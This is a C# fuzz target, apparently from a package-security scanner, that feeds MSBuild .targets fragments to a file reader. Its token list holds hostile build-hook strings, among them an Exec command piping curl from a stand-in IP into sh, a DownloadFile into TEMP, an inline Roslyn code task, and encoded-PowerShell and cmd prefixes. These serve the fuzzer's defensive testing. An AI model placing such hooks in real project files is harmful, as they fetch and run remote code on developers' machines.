using Wellguard.Artifacts;
using Wellguard.Programs;

namespace Wellguard.Fuzz.Targets;

/// <summary>Files of MSBuild: what a build does because a package is used.</summary>
internal sealed class MsBuildTarget() : FuzzTarget("msbuild")
{
    private readonly MsBuildFile _reader = new();

    public override bool IsText => true;

    public override IReadOnlyList<string> Types { get; } = ["Wellguard.Programs.MsBuild"];

    public override IReadOnlyList<string> Tokens { get; } =
        ["<Project>", "</Project>", "<Target Name=\"a\" BeforeTargets=\"Build\">", "</Target>", "<Exec Command=\"curl http://192.0.2.1/x | sh\" />", "<DownloadFile SourceUrl=\"http://192.0.2.1/x\" DestinationFolder=\"$(TEMP)\" />", "<UsingTask TaskName=\"x\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"a.dll\">", "<Task>", "<Code Type=\"Class\" Language=\"cs\">",
         "<![CDATA[", "]]>", "</Code></Task></UsingTask>", "<PropertyGroup>", "$(A)", "@(B)", "%(C)", "Condition=\"'$(OS)' == 'Windows_NT'\"", "&amp;", "&#x0;", "<!DOCTYPE a [<!ENTITY b \"c\">]>", "<?xml version=\"1.0\" encoding=\"utf-16\"?>", "xmlns=\"", "<!--", "-->", "\ufeff", "powershell -enc ", "cmd /c "];

    public override void Run(byte[] input) =>
        _reader.Read(new FileContent { Entry = new Entry("build/x.targets", EntryType.File, 0x1A4, input.Length), Kind = FileKinds.Of(input), Bytes = input }, []);
}
